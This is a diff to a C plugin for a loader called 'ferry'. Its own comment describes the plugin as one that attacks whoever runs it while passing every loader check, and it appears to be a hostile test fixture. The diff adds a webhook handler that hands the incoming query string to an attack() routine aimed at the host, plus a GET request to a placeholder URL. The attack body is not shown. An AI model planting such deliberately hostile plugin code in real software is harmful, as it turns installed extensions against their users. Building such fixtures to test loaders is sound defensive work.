@@ -1,5 +1,5 @@
 /* A plugin in plain C that attacks whoever runs it, in the way that the account's id names: an
- * account has the id that is its API key. It passes every check of the loader. */
+ * account has the id that is its API key, or the query of a webhook. It passes every check of the loader. */
 #define _GNU_SOURCE
 #include <ferry/ferry.h>
 
@@ -148,8 +148,17 @@ static ferry_status advance(
         identity.account_id = str(op->mode);
         return sink->identity(sink, &identity);
     }
+    if (strcmp(op->mode, "ask") == 0 && response == NULL) {
+        ferry_http_request request;
+        memset(&request, 0, sizeof request);
+        request.struct_size = sizeof request;
+        request.method = str("GET");
+        request.url = str("https://api.example/");
+        status = sink->http_request(sink, &request);
+        return status != FERRY_OK ? status : FERRY_NEED_HTTP;
+    }
     status = attack(call, the_host, str(op->mode));
-    (void)self, (void)response;
+    (void)self;
     return status != FERRY_OK ? status : sink->page(sink, &page);
 }
 static const ferry_changes_1 kChanges = {sizeof(ferry_changes_1), 0, fetchStart, NULL};
@@ -169,9 +178,22 @@ static ferry_status normalize(
 }
 static const ferry_normalize_1 kNormalize = {sizeof(ferry_normalize_1), 0, normalize};
 
+/* The query of the request names the attack. */
+static ferry_status verifyChallenge(
+    void* self, const ferry_call* call, const ferry_webhook_request* request, ferry_fields secrets,
+    const ferry_sink* sink
+) {
+    (void)self, (void)secrets, (void)sink;
+    (void)attack(call, the_host, request->query);
+    return FERRY_NO;
+}
+static const ferry_webhook_1 kWebhook = {
+    sizeof(ferry_webhook_1), 0, verifyChallenge, NULL, NULL};
+
 static const void* getExtension(const char* id) {
     if (strcmp(id, FERRY_EXT_AUTH) == 0) return &kAuth;
     if (strcmp(id, FERRY_EXT_NORMALIZE) == 0) return &kNormalize;
+    if (strcmp(id, FERRY_EXT_WEBHOOK) == 0) return &kWebhook;
     return strcmp(id, FERRY_EXT_CHANGES) == 0 ? &kChanges : NULL;
 }
 
